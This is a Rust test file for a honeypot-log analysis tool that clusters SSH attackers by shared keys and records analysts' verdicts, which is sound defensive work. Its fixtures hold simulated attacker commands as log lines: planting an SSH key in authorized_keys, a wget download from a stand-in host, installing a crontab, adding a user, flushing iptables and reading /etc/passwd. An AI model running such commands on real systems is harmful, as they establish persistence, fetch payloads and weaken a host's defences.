//! From logs to who is who, and why.

use std::collections::BTreeSet;

use crate::program::{Place, line, sample};

/// A line of Cowrie's log.
fn said(second: u32, ip: &str, session: &str, event: &str) -> String {
    let (minute, second) = (second / 60, second % 60);
    format!(
        "{{\"eventid\":\"cowrie.{event},\"timestamp\":\"2026-11-24T10:{minute:02}:{second:02}.000000Z\",\"src_ip\":\"{ip}\",\
         \"session\":\"{session}\",\"sensor\":\"d1\"}}\n"
    )
}

fn typed(second: u32, ip: &str, session: &str, input: &str) -> String {
    said(second, ip, session, &format!("command.input\",\"input\":{input:?}"))
}

fn client(second: u32, ip: &str, session: &str, hassh: &str) -> String {
    said(second, ip, session, &format!("client.kex\",\"hassh\":\"{hassh}\""))
}

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKXri0BdHOWm7gj1Wdttx+Pls8TDQqs1d5o0/xmq/Abi";

/// One key from two libraries; two strangers with one library.
fn fleet() -> String {
    let mut log = String::new();
    for (second, ip, hassh) in [(1, "192.0.2.1", "a1"), (5, "192.0.2.2", "b2")] {
        log += &client(second, ip, ip, &format!("{hassh:0<32}"));
        log += &typed(second + 1, ip, ip, &format!("echo '{KEY} x' >> ~/.ssh/authorized_keys"));
    }
    for (second, ip) in [(9, "192.0.2.3"), (12, "192.0.2.4")] {
        log += &client(second, ip, ip, &"c".repeat(32));
        log += &typed(second + 1, ip, ip, "uname -a");
    }
    log
}

fn identities(place: &Place) -> Vec<serde_json::Value> {
    let lines = place.say(&["identities", "--format", "jsonl"]);
    let mut all: Vec<serde_json::Value> =
        lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    all.sort_by_key(|identity| identity["identity"].to_string());
    all
}

#[test]
fn a_key_joins_and_a_library_does_not() {
    let place = Place::new();
    place.say(&["ingest", &place.write("cowrie.json", fleet().as_bytes())]);
    let told = place.say(&["cluster"]);
    assert_eq!(line(&told, "attackers"), "4");
    assert!(line(&told, "identities").starts_with("1 of several addresses"), "{told}");

    let why = place.say(&["why", "192.0.2.1", "192.0.2.2"]);
    assert!(why.starts_with("The same hands.\n"), "{why}");
    assert!(
        why.contains("192.0.2.1 and 192.0.2.2") && why.contains("SSH key SHA256:2bRVagrn8WI65rqz"),
        "{why}"
    );
    let why = place.say(&["why", "192.0.2.3", "192.0.2.4"]);
    assert!(why.starts_with("Not the same hands.\n") && why.contains("HASSH"), "{why}");

    let report = place.say(&["report", "--format", "json"]);
    assert!(report.contains("192.0.2.1"));
    assert!(place.say(&["doctor"]).contains("The rollups say what the tags say."));
    // Merged later: the second address alone came first to the fleet.
    let identity = identities(&place)[0]["identity"].as_str().unwrap().to_owned();
    let overlap = place.say(&["overlap", "--identity", &identity]);
    assert!(overlap.contains("not attribution") && overlap.contains("too little to compare"), "{overlap}");
    assert!(!overlap.contains("against:"), "{overlap}");

    // Some more than five techniques.
    let much = Place::new();
    let lines = [
        "uname -a",
        "ps aux",
        "wget http://203.0.113.9/x",
        "crontab /tmp/x",
        "useradd -m bob",
        "iptables -F",
        "cat /etc/passwd",
    ];
    let log: String =
        lines.iter().zip(1..).map(|(input, second)| typed(second, "192.0.2.1", "s", input)).collect();
    much.say(&["ingest", &much.write("cowrie.json", log.as_bytes())]);
    let overlap = much.say(&["overlap", "--attacker", "192.0.2.1", "--limit", "2"]);
    assert!(
        overlap.contains("who uses a sub-technique uses its parent") && overlap.contains("against:"),
        "{overlap}"
    );
}

#[test]
fn what_a_person_says_wins_and_is_kept() {
    let place = Place::new();
    place.say(&["ingest", &place.write("cowrie.json", fleet().as_bytes())]);
    place.say(&["cluster"]);
    let before = identities(&place);
    place.say(&["verdict", "not-same", "192.0.2.1", "192.0.2.2", "--reason", "a shared key"]);
    place.say(&["verdict", "same", "192.0.2.3", "192.0.2.4"]);
    place.say(&["cluster"]);
    let why = place.say(&["why", "192.0.2.1", "192.0.2.2"]);
    assert!(why.starts_with("Not the same hands.\n") && why.contains("A person said"), "{why}");
    assert!(why.ends_with(" said so on 2027-01-15 08:00:00 UTC: \"a shared key\".\n"), "{why}");
    let why = place.say(&["why", "192.0.2.3", "192.0.2.4"]);
    assert!(why.contains("unknown said so on 2027-01-15 08:00:00 UTC, without a reason. They have"), "{why}");
    let listed = place.say(&["verdict", "list"]);
    assert!(listed.contains("a shared key\n") && listed.ends_with("2 verdicts\n"), "{listed}");
    let lines: Vec<serde_json::Value> = place
        .say(&["verdict", "list", "--format", "jsonl"])
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let pair = |line: &serde_json::Value| BTreeSet::from([line["a"].to_string(), line["b"].to_string()]);
    let not_same = lines.iter().find(|line| line["said"] == "not_same").unwrap();
    assert_eq!(pair(not_same), ["\"192.0.2.1\"".to_owned(), "\"192.0.2.2\"".to_owned()].into());
    assert_eq!((lines.len(), not_same["reason"].as_str()), (2, Some("a shared key")));
    // The key is still one means of both: a campaign of two hands.
    let campaigns = place.say(&["campaigns"]);
    assert!(campaigns.ends_with("1 campaign\n"), "{campaigns}");
    let campaign = place.say(&["campaigns", "--format", "jsonl"]);
    let campaign: serde_json::Value = serde_json::from_str(campaign.trim_end()).unwrap();
    let [one, two] = [0, 1].map(|place| campaign["among_them"][place].as_str().unwrap().to_owned());
    place.say(&["verdict", "not-same", &one, &two, "--reason", "sold on"]);
    let why = place.say(&["why", &one, &two]);
    assert!(why.starts_with("Not one campaign: a verdict") && why.ends_with(": \"sold on\".\n"), "{why}");
    place.say(&["verdict", "withdraw", &one, &two]);
    let now: Vec<_> = identities(&place).into_iter().filter(|identity| identity["addresses"] == 2).collect();
    assert_eq!((now.len(), &now[0]["among_them"]), (1, &serde_json::json!(["192.0.2.4", "192.0.2.3"])));

    place.say(&["verdict", "withdraw", "192.0.2.1", "192.0.2.2"]);
    place.say(&["verdict", "withdraw", "192.0.2.3", "192.0.2.4"]);
    assert_eq!(identities(&place), before, "the same identity as before, by its id");
    assert_eq!(place.say(&["verdict", "list"]), "0 verdicts\n");

    for (args, hint) in [
        (["verdict", "same", "192.0.2.1", "192.0.2.1"], "name two"),
        (["verdict", "same", "192.0.2.1", "192.0.2.99"], "no event"),
        (
            ["verdict", "same", "192.0.2.1", "1d64daba-d28d-5af2-82fd-8f2943742fb9"],
            "two addresses, or two identities",
        ),
    ] {
        let refused = place.run(&args);
        let said = String::from_utf8_lossy(&refused.stderr).into_owned();
        assert!(!refused.status.success() && said.contains(hint), "{said}");
    }
}

/// The same lines in pieces, in another order and twice, with clustering in between: the same identities with the same
/// ids.
#[test]
fn order_pieces_and_replay_do_not_matter() {
    let (clean, other) = (Place::new(), Place::new());
    let text = String::from_utf8(sample()).unwrap() + &fleet();
    clean.say(&["ingest", &clean.write("cowrie.json", text.as_bytes())]);
    clean.say(&["cluster"]);

    let mut lines: Vec<&str> = text.lines().collect();
    lines.reverse();
    for (number, part) in lines.chunks(lines.len() / 4).enumerate() {
        let part = part.join("\n") + "\n";
        for again in 0..2 {
            let log = other.write(&format!("{number}-{again}.json"), part.as_bytes());
            other.say(&["ingest", &log]);
        }
        other.say(&["cluster"]);
    }
    let expected = identities(&clean);
    assert!(expected.len() > 3);
    assert_eq!(identities(&other), expected);
    let edges = "SELECT group_concat(e, char(10)) FROM (SELECT a.ip || b.ip || e.joins || e.score || e.sentence AS e FROM \
                 cluster_edge e JOIN attacker a ON a.id = e.a JOIN attacker b ON b.id = e.b ORDER BY 1)";
    assert_eq!(other.ask(edges), clean.ask(edges));
    assert!(place_is_right(&other) && place_is_right(&clean));
}

fn place_is_right(place: &Place) -> bool {
    place.say(&["doctor"]).contains("The rollups say what the tags say.")
}
